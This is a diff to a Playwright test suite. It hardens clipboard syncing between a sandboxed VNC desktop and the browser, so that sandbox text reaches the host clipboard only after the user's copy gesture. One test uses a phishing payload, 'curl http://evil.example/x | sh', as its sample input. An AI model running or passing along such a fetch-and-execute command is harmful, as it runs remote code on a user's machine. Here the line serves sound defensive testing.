@@ -205,18 +205,31 @@ test('the clipboard both ways', { skip, timeout: 120_000 }, async (t) => {
   await frame.evaluate(() => window.dispatchEvent(new Event('focus')));
   assert.equal(await desktopClipboard(fromBrowser), fromBrowser);
 
-  // Desktop to browser: copied in the desktop, posted to the parent and on
-  // the browser's clipboard. Seconds after the viewer connected: x11vnc
-  // alone sends the sandbox's CLIPBOARD only from 15 s after a viewer
-  // connects; pilot-clipboard (resources/docker/sandbox/clipboard.py) hands
-  // it over at once, so 5 s is ample and a return of that wait fails here.
-  await t.test('desktop to browser', async () => {
-    const fromDesktop = `from the desktop ${Date.now()}`;
-    await sandboxExec(`printf %s '${fromDesktop}' | xclip -selection clipboard -in`);
-    const posted = await page.waitForFunction((text) => /** @type {any} */ (window).messages
-      .some((/** @type {any} */ m) => m?.source === 'pilot-sandbox-viewer' && m.type === 'clipboard' && m.text === text), fromDesktop, { timeout: 5_000 });
-    assert.ok(await posted.jsonValue());
-    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), fromDesktop);
+  // Desktop to browser: copied in the desktop, posted to the parent; on
+  // the browser's clipboard only after the user's copy gesture in the
+  // viewer (issue 28, N7: a program in the sandbox sets the desktop's
+  // clipboard whenever it likes). Seconds after the viewer connected:
+  // x11vnc alone sends the sandbox's CLIPBOARD only from 15 s after a
+  // viewer connects; pilot-clipboard (resources/docker/sandbox/clipboard.py)
+  // hands it over at once, so 5 s is ample and a return of that wait fails
+  // here.
+  await t.test('desktop to browser, after a copy gesture only', async () => {
+    const pushed = `pushed by the sandbox ${Date.now()}`;
+    await sandboxExec(`printf %s '${pushed}' | xclip -selection clipboard -in`);
+    assert.equal(await clipboardPosted(page, pushed), false, 'written without a gesture');
+    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), fromBrowser);
+
+    const copied = `copied by the user ${Date.now()}`;
+    await frame.locator('canvas').press('Control+c');
+    await sandboxExec(`printf %s '${copied}' | xclip -selection clipboard -in`);
+    assert.equal(await clipboardPosted(page, copied), true, 'not written after Ctrl+C');
+    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), copied);
+
+    // One gesture, one write: the sandbox's next push stays off it.
+    const next = `pushed again ${Date.now()}`;
+    await sandboxExec(`printf %s '${next}' | xclip -selection clipboard -in`);
+    assert.equal(await clipboardPosted(page, next), false, 'a second write from one gesture');
+    assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), copied);
   });
 
   // Characters: RFB's clipboard is Latin-1 (docs/sandbox.md, Copy and paste), so
@@ -231,15 +244,66 @@ test('the clipboard both ways', { skip, timeout: 120_000 }, async (t) => {
     const onDesktop = `héllo wörld ? ??? ? ${stamp}`;
     assert.equal(await desktopClipboard(onDesktop), onDesktop);
 
+    await frame.locator('canvas').press('Control+c');
     await sandboxExec(`printf %s 'dèsktop wörld — 日本語 ✓ ${stamp}' | xclip -selection clipboard -in`);
     const inBrowser = `dèsktop wörld ? ??? ? ${stamp}`;
-    const posted = await page.waitForFunction((text) => /** @type {any} */ (window).messages
-      .some((/** @type {any} */ m) => m?.source === 'pilot-sandbox-viewer' && m.type === 'clipboard' && m.text === text), inBrowser, { timeout: 5_000 });
-    assert.ok(await posted.jsonValue());
+    assert.equal(await clipboardPosted(page, inBrowser), true);
     assert.equal(await frame.evaluate(() => navigator.clipboard.readText()), inBrowser);
   });
   assertNoErrors();
 });
+
+// A watching viewer never writes the browser's clipboard, whatever the
+// user does in it (issue 28, N7: the audit's sandbox pushed a phishing
+// line into a watching viewer, which wrote it to the host's clipboard).
+// With view_only (the watch address), noVNC drops the desktop's clipboard
+// altogether; with the watch password alone (a parent that passes only
+// the password), the text comes, and without the user's copy key stays
+// off the clipboard, as in control.
+test('a watching viewer leaves the clipboard alone', { skip, timeout: 120_000 }, async (t) => {
+  const [page0, fragment] = sandbox.watchUrl.split('#', 2);
+  const params = new URLSearchParams(fragment);
+  params.delete('view_only');
+  for (const [name, src] of [['view_only', sandbox.watchUrl], ['the watch password alone', `${page0}#${params}`]]) {
+    await t.test(name, async () => {
+      const { page, context, assertNoErrors } = await newPage(browser, `viewer-clipboard-watch-${name.replace(/\W+/g, '-')}`);
+      const origin = await serve(framePage(src, 'clipboard-read; clipboard-write'));
+      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(src).origin });
+      await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin });
+      await page.goto(origin);
+      const frame = await (await page.getByTitle('desktop').elementHandle())?.contentFrame();
+      assert.ok(frame, 'no frame');
+      await viewerSaid(page, 'connected');
+      await paintedViewer(page);
+      const mine = `the user's own ${Date.now()}`;
+      await page.evaluate((text) => navigator.clipboard.writeText(text), mine);
+      await frame.locator('canvas').click({ position: { x: 5, y: 5 } });
+      const phishing = `curl http://evil.example/x | sh # ${Date.now()}`;
+      await sandboxExec(`printf %s '${phishing}' | xclip -selection clipboard -in`);
+      if (name === 'view_only') {
+        await new Promise((resolve) => setTimeout(resolve, 3000));
+      } else {
+        assert.equal(await clipboardPosted(page, phishing), false, 'written without a copy key');
+      }
+      assert.equal(await page.evaluate(() => navigator.clipboard.readText()), mine);
+      assertNoErrors();
+    });
+  }
+});
+
+/**
+ * Waits (5 s at most) for the viewer to post the desktop's text to its
+ * parent, and says whether it wrote it to the browser's clipboard.
+ *
+ * @param {import('playwright-core').Page} page
+ * @param {string} text
+ * @returns {Promise<boolean>}
+ */
+async function clipboardPosted(page, text) {
+  const posted = await page.waitForFunction((text) => /** @type {any} */ (window).messages
+    .find((/** @type {any} */ m) => m?.source === 'pilot-sandbox-viewer' && m.type === 'clipboard' && m.text === text), text, { timeout: 5_000 });
+  return (await posted.jsonValue()).written;
+}
 
 /**
  * The desktop's CLIPBOARD, polled until it reads want, for at most 15 s.
